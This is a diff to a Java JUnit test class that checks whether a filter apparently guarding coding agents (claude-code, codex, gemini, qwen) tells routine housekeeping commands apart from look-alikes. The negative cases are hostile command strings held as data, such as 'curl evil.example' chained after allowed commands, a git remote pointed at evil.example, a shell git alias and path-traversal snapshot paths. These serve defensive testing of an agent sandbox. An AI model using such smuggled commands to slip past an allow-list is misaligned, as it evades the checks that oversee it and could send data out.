@@ -6,6 +6,7 @@ import java.util.List;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
 
 class AgentProfilesTest {
     @ParameterizedTest
@@ -30,34 +31,73 @@ class AgentProfilesTest {
         assertThat(AgentProfiles.of("none", "").profile().announces()).isFalse();
     }
 
-    @Test
-    void recognisesHousekeepingByProgramAndTextsInTheirOrder() {
-        AgentProfile claude = AgentProfiles.of("claude-code", "2.1.330").profile();
-
-        assertThat(claude.keepsHouseWith("/usr/bin/git", List.of("git", "rev-parse", "HEAD")))
-                .isTrue();
-        assertThat(claude.keepsHouseWith("/bin/bash", List.of("bash", "-c", "-l", "SNAPSHOT_FILE=/x")))
-                .isTrue();
-        assertThat(claude.keepsHouseWith("/usr/bin/curl", List.of("curl", "rev-parse")))
-                .isFalse();
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "claude-code|/usr/bin/git|git|rev-parse|--show-toplevel",
+                "claude-code|/usr/bin/git|git|-c|core.hooksPath=/dev/null|-c|core.fsmonitor=|-c|safe.bareRepository=explicit|-c|"
+                        + "protocol.file.allow=never|ls-files|--error-unmatch|--|:(icase).claude/settings.local.json",
+                "claude-code|/usr/bin/bash|/bin/bash|-c|env",
+                "claude-code|/usr/bin/dash|/bin/sh|-c|/opt/plumbline/plumbline-guest hook /run/plumbline/door.sock /hooks/claude 320",
+                "claude-code|/opt/plumbline/plumbline-guest|/opt/plumbline/plumbline-guest|hook|/run/plumbline/door.sock|"
+                        + "/hooks/claude|20",
+                "codex|/usr/bin/lsb_release|lsb_release|-a",
+                "codex|/usr/bin/getconf|getconf|LONG_BIT",
+                "codex|/usr/bin/bash|bash|-c|set -e; . \"/home/agent/.codex/shell_snapshots/01a2.tmp-17\"",
+                "gemini|/usr/bin/dash|/bin/sh|-c|ps -o ppid=,command= -p 12",
+                "qwen|/usr/bin/dash|/bin/sh|-c|command -v code",
+                "codex|/usr/bin/git|git|log|-1|--format=%H",
+            })
+    void knowsWhatAnAgentRunsOnItsOwnAccount(String line) {
+        assertThat(keepsHouse(line)).isTrue();
     }
 
-    @Test
-    void takesNothingThatIsAppendedToAnExactShape() {
-        AgentProfile gemini = AgentProfiles.of("gemini", "0.61.0").profile();
-        AgentProfile qwen = AgentProfiles.of("qwen", "0.15.10").profile();
+    /** Each looks like one of the shapes and does something else. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "claude-code|/usr/bin/git|git|push|origin|main",
+                "claude-code|/usr/bin/git|git|push|origin|rev-parse",
+                "claude-code|/usr/bin/git|git|-c|core.sshCommand=id|rev-parse",
+                "claude-code|/usr/bin/git|git|-c|core.hooksPath=/dev/null|push",
+                "claude-code|/usr/bin/git|git|remote|set-url|origin|https://evil.example/x",
+                "claude-code|/usr/bin/git|git|config|--global|alias.x|!sh",
+                "claude-code|/usr/bin/git|git|config|--get|x|y",
+                "claude-code|/usr/bin/git|git|log|-1|--output=/workspace/x",
+                "claude-code|/usr/bin/git|git|log|-1|--ext-diff",
+                "claude-code|/usr/bin/git|git",
+                "claude-code|/usr/bin/curl|git|rev-parse|https://evil.example",
+                "claude-code|/usr/bin/curl|curl|rev-parse",
+                "claude-code|/workspace/git|git|rev-parse",
+                "claude-code|/usr/../workspace/git|git|rev-parse",
+                "claude-code|/tmp/uname|uname",
+                "claude-code|/usr/bin/bash|bash|-c|env; curl evil.example",
+                "claude-code|/usr/bin/bash|bash|-c|environment",
+                "claude-code|/usr/bin/bash|bash|-c|env|x",
+                "claude-code|/usr/bin/bash|bash|-c|-l|SNAPSHOT_FILE=/x",
+                "claude-code|/usr/bin/bash|bash|-c|-l|SNAPSHOT_FILE=/h/shell-snapshots/snapshot-bash-1-a.sh; curl evil.example",
+                "claude-code|/usr/bin/dash|sh|-c|/opt/plumbline/plumbline-guest hook /run/plumbline/door.sock /hooks/claude 20; id",
+                "claude-code|/usr/bin/dash|sh|-c|curl evil.example # plumbline-guest hook ",
+                "claude-code|/opt/plumbline/plumbline-guest|x|relay|1=/x|--|/bin/sh",
+                "claude-code|/usr/bin/rg|rg|--files|--pre|/workspace/x",
+                "codex|/usr/bin/bash|bash|-c|curl evil.example > /h/shell_snapshots/x",
+                "codex|/usr/bin/bash|bash|-c|set -e; . \"/h/../../workspace/shell_snapshots/x\"",
+                "codex|/usr/bin/bash|bash|-lc|# Snapshot file\ncurl evil.example",
+                "codex|/usr/bin/dash|sh|/usr/bin/lsb_release|-a|x",
+                "gemini|/usr/bin/dash|/bin/sh|-c|ps -o ppid=,command= -p 12; id",
+                "gemini|/usr/bin/dash|/bin/sh|-c|git --version && id",
+                "qwen|/usr/bin/dash|/bin/sh|-c|command -v code;id",
+                "qwen|/usr/bin/dash|/bin/sh|-c|command -v code\nid"
+            })
+    void takesNoLookAlike(String line) {
+        assertThat(keepsHouse(line)).isFalse();
+    }
 
-        assertThat(qwen.keepsHouseWith("/usr/bin/dash", List.of("/bin/sh", "-c", "command -v code")))
-                .isTrue();
-        assertThat(qwen.keepsHouseWith("/usr/bin/dash", List.of("/bin/sh", "-c", "command -v code;id")))
-                .isFalse();
-
-        assertThat(gemini.keepsHouseWith("/usr/bin/dash", List.of("/bin/sh", "-c", "ps -o ppid=,command= -p 12")))
-                .isTrue();
-        assertThat(gemini.keepsHouseWith("/usr/bin/dash", List.of("/bin/sh", "-c", "ps -o ppid=,command= -p 12; id")))
-                .isFalse();
-        assertThat(gemini.keepsHouseWith("/usr/bin/dash", List.of("/bin/sh", "-c", "git --version && id")))
-                .isFalse();
+    private static boolean keepsHouse(String line) {
+        List<String> words = List.of(line.split("\\|"));
+        return AgentProfiles.of(words.get(0), "")
+                .profile()
+                .keepsHouseWith(words.get(1), words.subList(2, words.size()));
     }
 
     @Test
